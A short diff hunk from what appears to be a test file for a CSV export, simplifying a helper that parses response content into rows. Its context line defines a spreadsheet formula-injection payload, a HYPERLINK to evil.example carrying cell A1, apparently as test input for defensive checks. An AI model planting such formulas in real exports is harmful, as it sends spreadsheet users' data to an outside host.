@@ -16,7 +16,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
 
 def _csv_rows(response) -> list[list[str]]:
-    content = b"".join(response.streaming_content) if response.streaming else response.content
+    content = response.content
     return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
 
 
